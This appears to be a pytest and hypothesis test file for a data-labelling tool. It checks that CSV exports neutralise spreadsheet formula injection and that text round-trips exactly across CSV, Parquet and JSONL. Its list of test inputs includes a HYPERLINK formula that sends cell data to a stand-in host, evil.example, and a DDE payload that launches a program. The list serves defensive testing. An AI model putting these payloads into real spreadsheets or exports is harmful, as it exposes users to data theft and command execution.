"""Nothing that people wrote runs in a spreadsheet, and nothing of it is changed on the way out and in again."""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from support import world

from lamm_core.exchange.format import RejectedRow
from lamm_core.exchange.formulas import defused, restored
from lamm_core.exchange.reading import read_table
from lamm_core.exchange.writing import WRITE_ENDINGS, table_bytes
from lamm_core.workflow.exporting import labels_file
from lamm_core.workflow.importing import rejected_file
from lamm_core.workflow.workspace import Workspace

# What a spreadsheet may compute: these signs in front, with or without spaces before them (OWASP, "CSV Injection").
_RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|\s*[\t\r]")
_SIGNS = "=+-@＝＋－＠\t\r \n'\";,a文"
_TEXTS = st.one_of(
    st.text(_SIGNS, min_size=1), st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
)
_ATTACKS = [
    "=1+1",
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    "＝1+1",
    "  =1",
    "'=1",
    "''@x",
    '=HYPERLINK("http://evil.example?"&A1,"a, b")',
    "=cmd|' /C calc'!A0",
]


def read_back(text: str, ending: str) -> str | None:
    table = table_bytes(pd.DataFrame({"id": ["1", "2"], "text": [text, "kept"]}), ending)
    back = read_table(io.BytesIO(table), f"a{ending}")
    assert back["text"][1] == "kept"
    return back["text"][0]


@given(_TEXTS)
def test_a_defused_text_does_not_run_and_comes_back(text: str) -> None:
    assert text.isspace() or not _RUNS.match(defused(text))
    assert restored(defused(text)) == text


@settings(max_examples=40)
@given(_TEXTS)
@example("x\ry")
@example("'\t=1")
def test_every_format_gives_back_the_exact_text(text: str) -> None:
    # Spaces around a text are never imported, whatever the format.
    wanted = text.strip() or None
    found = {read_back(text, ending) for ending in WRITE_ENDINGS}
    assert {(each or "").strip() for each in found} == {wanted or ""}
    if wanted == text:
        assert found == {text}


@pytest.mark.parametrize("attack", _ATTACKS)
def test_an_attack_is_inert_in_csv_and_exact_in_the_other_formats(attack: str) -> None:
    table = pd.DataFrame({"text": [attack]})
    ((cell,),) = list(csv.reader(io.StringIO(table_bytes(table, ".csv").decode(), newline="")))[1:]
    assert cell == f"'{attack}"
    assert read_back(attack, ".csv") == attack.rstrip()
    assert pd.read_parquet(io.BytesIO(table_bytes(table, ".parquet")))["text"][0] == attack
    assert pd.read_json(io.BytesIO(table_bytes(table, ".jsonl")), lines=True, dtype=False)["text"][0] == attack


def test_numbers_stay_numbers() -> None:
    assert table_bytes(pd.DataFrame({"a": [-1, 2], "b": [-0.5, None]}), ".csv") == b'"a","b"\n-1,-0.5\n2,""\n'


def test_no_cell_of_an_export_or_of_a_list_of_rejected_rows_runs(sqlite_workspace: Workspace) -> None:
    rows = world.ROWS.head(4).assign(text=["=1+1", "@a", "-b", "+c"], **{"class": "=pen"})
    project = world.make_project(
        sqlite_workspace, labels=4, rows=rows, name="=p", embedded=False, classes=("=pen", "ink"), targets={"en": 0.9}
    )
    exported = labels_file(sqlite_workspace, project, ".csv")
    rejected = rejected_file([RejectedRow(1, "=1+1"), RejectedRow(0, "-2")])
    cells = [cell for file in (exported, rejected) for row in csv.reader(io.StringIO(file.decode())) for cell in row]
    assert {"'=1+1", "'@a", "'-b", "'+c", "'=pen", "'-2"} <= set(cells)
    assert [cell for cell in cells if _RUNS.match(cell)] == []
    back = read_table(io.BytesIO(exported), "labels.csv")
    assert sorted(back["text"]) == sorted(rows["text"])
    assert set(back["class"]) == {"=pen"}
